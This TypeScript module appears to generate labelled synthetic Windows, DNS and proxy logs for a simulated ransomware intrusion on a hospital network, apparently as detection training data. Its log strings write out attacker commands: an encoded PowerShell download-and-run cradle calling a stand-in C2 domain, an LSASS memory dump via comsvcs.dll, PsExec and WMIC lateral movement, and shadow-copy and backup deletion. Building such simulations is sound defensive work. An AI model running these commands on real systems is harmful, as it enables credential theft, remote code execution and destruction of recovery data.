import { logon, newProc, serviceInstalled, sysmonDns, sysmonFileCreate, sysmonNetwork, sysmonPipe, sysmonProcessAccess, sysmonProcessCreate, type Proc } from '../formats/windows.js';
import { dnsLog, proxyLog } from '../benign/it.js';
import { DAY, HOUR, MIN, type SimContext } from '../context.js';
import type { Host } from '../model.js';
import type { Label } from '../out.js';

export const RANSOMWARE_STAGES = ['phishing-document', 'loader', 'beacon', 'discovery', 'credential-dumping', 'lateral-movement', 'shadow-copy-deletion', 'encryption'] as const;

const C2_DOMAIN = 'cdn-updates-check.com';
const C2_IP = '203.0.113.80';
const STAGING = 'C:\\ProgramData\\upd';

/**
 * Scenario 1: the hospital ransomware chain seen in 2020–2021 (Ryuk/Conti playbooks, e.g. CISA
 * AA20-302A): a macro document from a phishing mail → PowerShell loader → Cobalt-Strike-like beacon
 * (rundll32 StartW, default named pipe, jquery malleable profile) → AdFind / nltest discovery →
 * LSASS access → PsExec and WMI to servers → shadow-copy deletion → mass encryption.
 */
export function ransomware(c: SimContext, dayIndex: number): void {
  const rng = c.rng;
  const { h } = c;
  const victim = h.staff.find((s) => s.status === 'active' && s.dept === 'ADM') ?? h.staff[0];
  const ws = h.workstations[victim.workstations[0]];
  const admin = h.staff.find((s) => s.role === 'it-admin' && s.status === 'active') ?? h.staff[1];
  const user = `${h.netbios}\\${victim.user}`;
  const adminUser = `${h.netbios}\\${admin.user}`;
  let t = c.start + Math.min(dayIndex, c.days - 1) * DAY + 9 * HOUR + rng.int(0, 60) * MIN;
  const L = (stage: string, host: string): Label => ({ scenario: 'ransomware', scenarioId: 1, stage, host, actor: victim.user });
  const win = (stage: string, host: string, body: Record<string, unknown>, at = t): void => c.out.add({ stream: 'windows', t: at, body, label: L(stage, host) });
  const step = (lo: number, hi: number): number => (t += rng.int(lo, hi) * 1000);

  // 1 phishing document
  const explorer = newProc(rng, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', user);
  const outlook = newProc(rng, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"', user);
  const doc = `C:\\Users\\${victim.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3X9K2LM\\COVID19_Staff_Vaccination_Schedule.docm`;
  win('phishing-document', ws.name, sysmonFileCreate(t, ws.fqdn, outlook, doc, rng));
  step(20, 90);
  const word = newProc(rng, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${doc}" /o ""`, user);
  win('phishing-document', ws.name, sysmonProcessCreate(rng, t, ws.fqdn, word, outlook, `C:\\Users\\${victim.user}\\Documents\\`));
  void explorer;

  // 2 loader
  step(15, 40);
  const script = `$u='https://${C2_DOMAIN}/static/upd.dll';$p='${STAGING}\\updater.dll';New-Item -ItemType Directory -Force '${STAGING}'|Out-Null;(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process rundll32.exe -ArgumentList "$p,StartW"`;
  const enc = Buffer.from(script, 'utf16le').toString('base64');
  const ps = newProc(rng, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -nop -w hidden -ep bypass -enc ${enc}`, user);
  win('loader', ws.name, sysmonProcessCreate(rng, t, ws.fqdn, ps, word));
  step(1, 3);
  win('loader', ws.name, sysmonDns(t, ws.fqdn, ps, C2_DOMAIN, C2_IP));
  c.out.add({ stream: 'dns', t, body: dnsLog(t, ws.ip, C2_DOMAIN, C2_IP), label: L('loader', ws.name) });
  c.out.add({ stream: 'proxy', t: t + 500, body: proxyLog(t + 500, ws.ip, victim.user, 'GET', C2_DOMAIN, `https://${C2_DOMAIN}/static/upd.dll`, 200, 287744, 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1'), label: L('loader', ws.name) });
  step(2, 5);
  win('loader', ws.name, sysmonFileCreate(t, ws.fqdn, ps, `${STAGING}\\updater.dll`, rng));
  step(1, 3);
  const beacon = newProc(rng, 'C:\\Windows\\System32\\rundll32.exe', `"C:\\Windows\\System32\\rundll32.exe" ${STAGING}\\updater.dll,StartW`, user);
  win('loader', ws.name, sysmonProcessCreate(rng, t, ws.fqdn, beacon, ps));

  // 3 beacon: default pipe name and periodic HTTPS check-ins with the jquery profile
  step(1, 2);
  win('beacon', ws.name, sysmonPipe(t, ws.fqdn, beacon, `\\MSSE-${rng.int(1000, 9999)}-server`));
  let tb = t;
  for (let i = 0; i < 24; i++) {
    tb += (60 + rng.int(-6, 6)) * 1000;
    win('beacon', ws.name, sysmonNetwork(tb, ws.fqdn, beacon, ws.ip, C2_IP, 443, C2_DOMAIN), tb);
    c.out.add({ stream: 'proxy', t: tb, body: proxyLog(tb, ws.ip, victim.user, i % 4 === 3 ? 'POST' : 'GET', C2_DOMAIN, `https://${C2_DOMAIN}/jquery-3.3.1.min.js${i % 4 === 3 ? '?__cfduid=' + rng.hex(32) : ''}`, 200, rng.int(5000, 6000), 'Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko'), label: L('beacon', ws.name) });
  }

  // 4 discovery
  step(300, 600);
  const shell = (cmdline: string, host: Host, parent: Proc, stage: string, who = user, integrity = 'Medium'): Proc => {
    const cmd = newProc(rng, 'C:\\Windows\\System32\\cmd.exe', `C:\\Windows\\system32\\cmd.exe /C ${cmdline}`, who, integrity);
    win(stage, host.name, sysmonProcessCreate(rng, t, host.fqdn, cmd, parent));
    return cmd;
  };
  const run = (image: string, cmdline: string, host: Host, parent: Proc, stage: string, who = user, integrity = 'Medium'): Proc => {
    step(1, 4);
    const p = newProc(rng, image, cmdline, who, integrity);
    win(stage, host.name, sysmonProcessCreate(rng, t, host.fqdn, p, parent, `${STAGING}\\`));
    return p;
  };
  const disc: [string, string][] = [
    ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
    ['C:\\Windows\\System32\\nltest.exe', `nltest /dclist:${h.adDomain}`],
    ['C:\\Windows\\System32\\nltest.exe', 'nltest /domain_trusts /all_trusts'],
    ['C:\\Windows\\System32\\net.exe', 'net group "domain admins" /domain'],
    [`${STAGING}\\AdFind.exe`, `${STAGING}\\AdFind.exe -f objectcategory=computer -csv name cn OperatingSystem dNSHostName`],
    [`${STAGING}\\AdFind.exe`, `${STAGING}\\AdFind.exe -f (objectcategory=person)`],
    [`${STAGING}\\AdFind.exe`, `${STAGING}\\AdFind.exe -gcb -sc trustdmp`],
  ];
  for (const [image, cl] of disc) {
    step(20, 90);
    const cmd = shell(cl.includes('AdFind') ? `${cl} > ${STAGING}\\ad_${rng.hex(4)}.txt` : cl, ws, beacon, 'discovery');
    run(image, cl, ws, cmd, 'discovery');
  }

  // 5 credential dumping: LSASS opened with PROCESS_VM_READ|PROCESS_QUERY_LIMITED_INFORMATION (0x1010)
  step(120, 400);
  const lsass = newProc(rng, 'C:\\Windows\\system32\\lsass.exe', 'C:\\Windows\\system32\\lsass.exe', 'NT AUTHORITY\\SYSTEM', 'System');
  lsass.pid = 672;
  win('credential-dumping', ws.name, sysmonProcessAccess(t, ws.fqdn, beacon, lsass, '0x1010', `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcce|UNKNOWN(00000${rng.hex(11).toUpperCase()})`));
  step(30, 60);
  const cmd = shell(`rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 ${STAGING}\\lsass.dmp full`, ws, beacon, 'credential-dumping', user, 'High');
  const dump = run('C:\\Windows\\System32\\rundll32.exe', `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 ${STAGING}\\lsass.dmp full`, ws, cmd, 'credential-dumping', user, 'High');
  step(1, 2);
  win('credential-dumping', ws.name, sysmonProcessAccess(t, ws.fqdn, dump, lsass, '0x1FFFFF', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcce|C:\\Windows\\System32\\comsvcs.dll+3a12e'));
  step(3, 10);
  win('credential-dumping', ws.name, sysmonFileCreate(t, ws.fqdn, dump, `${STAGING}\\lsass.dmp`, rng));

  // 6 lateral movement with the IT administrator's credentials: PsExec to the file server and
  // PACS, WMI to the EHR application server.
  const targets: [Host, 'psexec' | 'wmi'][] = [[h.servers.fs, 'psexec'], [h.servers.pacs, 'psexec'], [h.servers.ehrApp, 'wmi']];
  const remote = new Map<string, Proc>();
  const services = newProc(rng, 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', 'NT AUTHORITY\\SYSTEM', 'System');
  for (const [srv, how] of targets) {
    step(60, 240);
    if (how === 'psexec') {
      const pcmd = shell(`${STAGING}\\PsExec64.exe \\\\${srv.fqdn} -accepteula -s -d cmd.exe /c "copy \\\\${ws.fqdn}\\c$\\ProgramData\\upd\\svchosts.exe C:\\ProgramData\\svchosts.exe"`, ws, beacon, 'lateral-movement', adminUser, 'High');
      run(`${STAGING}\\PsExec64.exe`, `${STAGING}\\PsExec64.exe \\\\${srv.fqdn} -accepteula -s -d cmd.exe`, ws, pcmd, 'lateral-movement', adminUser, 'High');
      step(1, 2);
      win('lateral-movement', srv.name, logon(rng, t, srv.fqdn, admin.user, h.netbios, 3, ws.ip, ws.name, 'NTLM'));
      win('lateral-movement', srv.name, sysmonFileCreate(t + 200, srv.fqdn, { ...services, user: 'NT AUTHORITY\\SYSTEM' }, 'C:\\Windows\\PSEXESVC.exe', rng), t + 200);
      win('lateral-movement', srv.name, serviceInstalled(t + 400, srv.fqdn, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'), t + 400);
      const svc = newProc(rng, 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', 'NT AUTHORITY\\SYSTEM', 'System');
      step(1, 2);
      win('lateral-movement', srv.name, sysmonProcessCreate(rng, t, srv.fqdn, svc, services));
      win('lateral-movement', srv.name, sysmonPipe(t + 100, srv.fqdn, svc, '\\PSEXESVC'), t + 100);
      step(1, 2);
      const rc = newProc(rng, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', 'NT AUTHORITY\\SYSTEM', 'System');
      win('lateral-movement', srv.name, sysmonProcessCreate(rng, t, srv.fqdn, rc, svc));
      remote.set(srv.name, rc);
    } else {
      const w = run('C:\\Windows\\System32\\wbem\\WMIC.exe', `wmic /node:${srv.fqdn} /user:${adminUser} /password:******** process call create "cmd.exe /c C:\\ProgramData\\svchosts.exe -prep"`, ws, beacon, 'lateral-movement', adminUser, 'High');
      void w;
      step(1, 2);
      win('lateral-movement', srv.name, logon(rng, t, srv.fqdn, admin.user, h.netbios, 3, ws.ip, ws.name));
      const wmi = newProc(rng, 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'NT AUTHORITY\\NETWORK SERVICE', 'System');
      const rc = newProc(rng, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c C:\\ProgramData\\svchosts.exe -prep', adminUser, 'High');
      step(1, 2);
      win('lateral-movement', srv.name, sysmonProcessCreate(rng, t, srv.fqdn, rc, wmi));
      remote.set(srv.name, rc);
    }
  }

  // 7 shadow copies, backup catalogue and recovery deleted on every server
  step(600, 1200);
  for (const [srv] of targets) {
    const parent = remote.get(srv.name)!;
    for (const [image, cl] of [
      ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet'],
      ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic shadowcopy delete'],
      ['C:\\Windows\\System32\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'],
      ['C:\\Windows\\System32\\wbadmin.exe', 'wbadmin delete catalog -quiet'],
    ] as const) {
      step(2, 8);
      const p = newProc(rng, image, cl, 'NT AUTHORITY\\SYSTEM', 'System');
      win('shadow-copy-deletion', srv.name, sysmonProcessCreate(rng, t, srv.fqdn, p, parent));
    }
  }

  // 8 encryption: the payload (LockBit 2.0 artefacts: .lockbit extension, Restore-My-Files.txt
  // notes — a family that hit hospitals) renames every document on the data volumes
  step(30, 90);
  const folders: Record<string, string[]> = {
    [h.servers.fs.name]: ['D:\\Shares\\Finance', 'D:\\Shares\\HR', 'D:\\Shares\\Clinical\\Protocols', 'D:\\Shares\\Quality'],
    [h.servers.pacs.name]: ['E:\\DICOM\\2026\\03', 'E:\\DICOM\\2026\\02', 'E:\\Reports'],
    [h.servers.ehrApp.name]: ['D:\\EHR\\Interfaces', 'D:\\EHR\\Reports', 'D:\\EHR\\Scans'],
  };
  for (const [srv] of targets) {
    const payload = newProc(rng, 'C:\\ProgramData\\svchosts.exe', 'C:\\ProgramData\\svchosts.exe -path ALL -threads 8 -nolog', 'NT AUTHORITY\\SYSTEM', 'System');
    win('encryption', srv.name, sysmonProcessCreate(rng, t, srv.fqdn, payload, remote.get(srv.name)!, 'C:\\ProgramData\\'));
    let te = t;
    for (const folder of folders[srv.name]) {
      te += 300;
      win('encryption', srv.name, sysmonFileCreate(te, srv.fqdn, payload, `${folder}\\Restore-My-Files.txt`, rng), te);
      for (let i = 0; i < 40; i++) {
        te += rng.int(20, 200);
        const ext = rng.pick(['docx', 'xlsx', 'pdf', 'dcm', 'hl7', 'txt']);
        win('encryption', srv.name, sysmonFileCreate(te, srv.fqdn, payload, `${folder}\\${rng.hex(8)}.${ext}.lockbit`, rng), te);
      }
    }
  }
}
